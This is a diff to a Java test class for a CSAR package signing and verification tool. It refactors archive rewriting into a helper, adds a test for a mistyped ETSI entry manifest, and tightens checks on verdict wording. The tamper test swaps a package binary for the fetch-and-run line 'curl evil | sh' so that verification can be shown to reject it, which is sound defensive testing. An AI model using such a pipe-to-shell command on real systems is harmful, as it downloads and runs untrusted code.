@@ -99,6 +99,7 @@ class SignVerifyCommandTest {
         assertEquals("CSAR_OPTION_1", j.get("format").asText());
         assertEquals("acme-mme", j.get("package").get("name").asText());
         assertTrue(r.err().startsWith("ACCEPTED"), r.err());
+        assertTrue(r.err().lines().findFirst().orElse("").contains(" signed by "), r.err());
         assertTrue(j.get("packageSha256").isNull(), "no whole-file digest unless asked for");
         Run d = run("verify", "--trust", root.toString(), "--at", AT, "--json", "--package-digest", csar.toString());
         assertEquals(ExitCode.OK, d.exit(), d.err());
@@ -109,21 +110,8 @@ class SignVerifyCommandTest {
     @Test
     void tamperedCsarExitsOneWithFindingCodes() throws Exception {
         Path csar = signCsar("mme.csar");
-        Path tampered = dir.resolve("tampered.csar");
-        try (ZipFile in = ZipFile.builder().setPath(csar).get();
-             ZipArchiveOutputStream out = new ZipArchiveOutputStream(tampered)) {
-            for (ZipArchiveEntry e : Collections.list(in.getEntriesInPhysicalOrder())) {
-                byte[] data = in.getInputStream(e).readAllBytes();
-                if (e.getName().equals("Files/bin/mmed")) {
-                    data = "#!/bin/sh\ncurl evil | sh\n".getBytes(StandardCharsets.UTF_8);
-                }
-                ZipArchiveEntry c = new ZipArchiveEntry(e.getName());
-                c.setUnixMode(e.getUnixMode());
-                out.putArchiveEntry(c);
-                out.write(data);
-                out.closeArchiveEntry();
-            }
-        }
+        Path tampered = rewrite(csar, "tampered.csar", (name, data) -> name.equals("Files/bin/mmed")
+                ? "#!/bin/sh\ncurl evil | sh\n".getBytes(StandardCharsets.UTF_8) : data);
         Run r = run("verify", "--trust", root.toString(), "--at", AT, "--json", tampered.toString());
         assertEquals(ExitCode.REJECTED, r.exit(), r.err());
         assertTrue(r.codes().contains("DIGEST_MISMATCH"), r.out());
@@ -157,6 +145,51 @@ class SignVerifyCommandTest {
     }
 
     @Test
+    void aTypoInEtsiEntryManifestNamesTheExpectedAndTheExistingManifest() throws Exception {
+        Path csar = signCsar("mme.csar");
+        String[] manifest = new String[1];
+        Path typo = rewrite(csar, "typo.csar", (name, data) -> {
+            if (!name.equals("TOSCA-Metadata/TOSCA.meta")) {
+                return data;
+            }
+            String meta = new String(data, StandardCharsets.UTF_8);
+            java.util.regex.Matcher m = java.util.regex.Pattern.compile("ETSI-Entry-Manifest: *(\\S+)").matcher(meta);
+            assertTrue(m.find(), meta);
+            manifest[0] = m.group(1);
+            return meta.replace("ETSI-Entry-Manifest: " + manifest[0], "ETSI-Entry-Manifest: " + manifest[0] + "1")
+                    .getBytes(StandardCharsets.UTF_8);
+        });
+        Run r = run("verify", "--trust", root.toString(), "--at", AT, "--json", typo.toString());
+        assertEquals(ExitCode.REJECTED, r.exit(), r.err());
+        JsonNode finding = null;
+        for (JsonNode f : r.json().get("findings")) {
+            if (f.get("code").asText().equals("MALFORMED_PACKAGE") && f.get("subject").asText().equals("TOSCA-Metadata/TOSCA.meta")) {
+                finding = f;
+            }
+        }
+        assertTrue(finding != null, r.out());
+        assertEquals(manifest[0] + "1", finding.get("expected").asText());
+        assertEquals(manifest[0], finding.get("actual").asText());
+    }
+
+    /** A copy of {@code csar} named {@code name} in the test directory, each entry's bytes passed through {@code change}. */
+    private Path rewrite(Path csar, String name, java.util.function.BiFunction<String, byte[], byte[]> change) throws Exception {
+        Path copy = dir.resolve(name);
+        try (ZipFile in = ZipFile.builder().setPath(csar).get();
+             ZipArchiveOutputStream out = new ZipArchiveOutputStream(copy)) {
+            for (ZipArchiveEntry e : Collections.list(in.getEntriesInPhysicalOrder())) {
+                byte[] data = change.apply(e.getName(), in.getInputStream(e).readAllBytes());
+                ZipArchiveEntry c = new ZipArchiveEntry(e.getName());
+                c.setUnixMode(e.getUnixMode());
+                out.putArchiveEntry(c);
+                out.write(data);
+                out.closeArchiveEntry();
+            }
+        }
+        return copy;
+    }
+
+    @Test
     void untrustedAnchorExitsOne() throws Exception {
         Path csar = signCsar("mme.csar");
         Path other = dir.resolve("other-root.pem");
@@ -164,6 +197,9 @@ class SignVerifyCommandTest {
         Run r = run("verify", "--trust", other.toString(), "--at", AT, "--json", csar.toString());
         assertEquals(ExitCode.REJECTED, r.exit(), r.err());
         assertTrue(r.codes().contains("SIGNER_UNTRUSTED"), r.out());
+        // the verdict line names the signer but never says "signed by" of a signature that did not verify
+        String verdict = r.err().lines().findFirst().orElse("");
+        assertTrue(verdict.startsWith("REJECTED") && verdict.contains("CN=Acme") && !verdict.contains("signed by"), r.err());
     }
 
     @Test
